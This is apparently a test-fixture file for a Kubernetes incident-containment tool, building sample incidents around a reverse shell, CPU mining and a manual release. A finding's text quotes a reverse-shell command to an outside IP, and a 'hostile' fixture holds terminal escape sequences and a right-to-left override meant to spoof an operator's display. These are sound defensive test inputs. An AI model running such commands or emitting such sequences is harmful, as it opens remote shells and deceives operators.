import type { Entry } from '../../../shared/model/entry.ts';
import type { Finding } from '../../../shared/model/finding.ts';
import type { Incident } from '../../../shared/model/incident.ts';
import { timeOf } from '../../../shared/model/time.ts';

/** When every incident here begins. */
export const T0 = Date.parse('2026-11-03T03:12:04.000Z');
const at = (ms: number): string => timeOf(T0 + ms);

const target = { project: 'p1', location: 'europe-west1', cluster: 'c1', namespace: 'shop', pod: 'cart-7d9f' };
const pod = 'shop/cart-7d9f';
const node = 'gke-c1-pool-1-0a1b';
const podUid = '6f1c0b52-9a1e-4c7e-8d57-0c3b7a5d1e01';
const nodeUid = '4512345678901234567';

export const finding = (over: Partial<Finding> = {}): Finding => ({
  v: 1,
  id: 'f-1',
  rule: 'exec-reverse-shell',
  severity: 'high',
  confidence: 0.9,
  because: [
    'ana@example.com ran `bash -i >& /dev/tcp/198.51.100.7/4444 0>&1` in pod shop/cart-7d9f',
    'an interactive shell whose input and output are a network connection is a reverse shell',
  ],
  target,
  at: at(0),
  source: 'gke-audit',
  family: 'exec',
  conclusive: true,
  ...over,
});

export const entry = (step: Entry['step'], from: number, over: Partial<Entry> & { took?: number } = {}): Entry => {
  const { took, ...rest } = over;
  return {
    step,
    subject: pod,
    uid: podUid,
    state: 'applied',
    startedAt: at(from),
    ...(took === undefined ? {} : { endedAt: at(from + took) }),
    proof: 'proven',
    rev: 1,
    ...rest,
  };
};

const onNode = { subject: node, uid: nodeUid };

/** A reverse shell that was quarantined. One step is not proven and one was skipped. */
export const contained = (over: Partial<Incident> = {}): Incident => ({
  v: 1,
  rev: 9,
  writer: 'w',
  id: 'shop-cart-3f2a-1',
  key: 'k',
  episode: 1,
  state: 'contained',
  target,
  subjects: [],
  severity: 'high',
  confidence: 0.9,
  findings: [finding()],
  summary: { count: 1, maxima: [], firstAt: at(0), lastAt: at(0), principals: ['ana@example.com'] },
  decision: {
    verdict: 'act',
    tier: 'quarantine',
    because: [
      'high with confidence 0.90 is quarantine in the matrix',
      'the finding is conclusive, so one family is enough',
    ],
    policyHash: '3fa9c1d2e4b5a697',
    at: at(410),
  },
  goal: { rev: 1, tier: 'quarantine', by: 'policy', mode: 'act', at: at(410), requested: false },
  plan: [],
  journal: [
    entry('start-snapshots', 600, { ...onNode, took: 2300 }),
    entry('capture-evidence', 700, { subject: `${pod}#objects`, took: 180 }),
    entry('cordon-node', 900, { ...onNode, took: 45 }),
    entry('deny-pod-network', 1000, {
      subject: 'shop',
      took: 60,
      proof: 'not proven',
      because:
        'policy shop/allow-dns still allows egress to 10.0.0.10 on port 53, and flows that were open are not cut',
    }),
    entry('quarantine-pod', 1100, { took: 80 }),
    entry('capture-evidence', 1200, {
      subject: `${pod}#logs`,
      state: 'skipped',
      proof: null,
      took: 20,
      because: 'the container has written no log',
    }),
  ],
  run: { rev: 1 },
  window: { from: at(0), until: at(1_800_000), closesAt: at(86_400_000) },
  openedAt: at(400),
  outbox: [],
  published: { notices: 0, goal: 1 },
  ...over,
});

/** An isolation under way that asks for more. The drain is blocked, and the cut has not begun. */
export const isolating = (): Incident =>
  contained({
    id: 'shop-cart-3f2a-2',
    state: 'containing',
    severity: 'critical',
    confidence: 0.955,
    findings: [
      finding(),
      finding({
        id: 'f-2',
        rule: 'cpu-mining',
        severity: 'critical',
        confidence: 0.55,
        family: 'cpu',
        source: 'monitoring',
        at: at(95_000),
        because: ['cart-7d9f used all of its 2 cores for 10 minutes, flat to 1 %'],
      }),
    ].map((f) => (f.id === 'f-2' ? (({ conclusive: _, ...rest }) => rest)(f) : f)),
    decision: {
      verdict: 'act',
      tier: 'isolate',
      asked: { tier: 'delete-workload', plan: 'b7d0c4e19a52', until: at(3_600_000) },
      because: [
        'critical with confidence 0.96 is delete-workload in the matrix',
        'delete-workload needs an approval first; isolate is carried out meanwhile',
      ],
      policyHash: '3fa9c1d2e4b5a697',
      at: at(95_400),
    },
    goal: { rev: 2, tier: 'isolate', by: 'policy', mode: 'act', at: at(95_400), requested: false },
    journal: [
      entry('cordon-node', 95_500, { ...onNode, took: 40 }),
      entry('leave-group', 95_600, {
        ...onNode,
        state: 'failed',
        proof: null,
        took: 900,
        because: 'the group answered 403: add compute.instanceGroupManagers.update to the role of contain',
      }),
      entry('drain-node', 96_600, {
        ...onNode,
        state: 'pending',
        proof: null,
        deadline: at(216_600),
        because: 'budget shop/web allows no disruption: web-0 stays',
      }),
    ],
    plan: [
      { step: 'cordon-node', ...onNode, after: [] },
      { step: 'drain-node', ...onNode, after: [] },
      { step: 'deny-node-network', ...onNode, after: [] },
    ],
    run: { rev: 1 },
  });

/** An incident requested by hand and released. Severity and confidence are null. */
export const releasedByHand = (): Incident =>
  contained({
    id: 'shop-cart-3f2a-3',
    state: 'released',
    severity: null,
    confidence: null,
    findings: [],
    summary: { count: 0, maxima: [], principals: [] },
    openedAt: at(0),
    decision: {
      verdict: 'act',
      tier: 'quarantine',
      because: ['requested by ana@example.com: seen in triage'],
      policyHash: '3fa9c1d2e4b5a697',
      at: at(10),
    },
    goal: { rev: 2, tier: 'released', by: 'ana@example.com', mode: 'act', at: at(7_200_000), requested: true },
    journal: [
      entry('cordon-node', 100, { ...onNode, state: 'undone', took: 7_200_300 }),
      entry('quarantine-pod', 200, { state: 'not-undoable', proof: null, took: 7_200_100, because: 'the pod is gone' }),
    ],
    run: { rev: 2 },
  });

/** Text that an attacker would like to show on an operator's terminal. */
export const hostile = (): Incident =>
  contained({
    id: 'shop-cart-3f2a-4',
    findings: [finding({ because: ['\u001b[2J\u001b[31mall is well\u0007\r\nfirebreak: released \u202egnp.exe'] })],
    journal: [entry('quarantine-pod', 100, { took: 50, because: `${'A'.repeat(300)} \u001b]0;owned\u0007` })],
  });
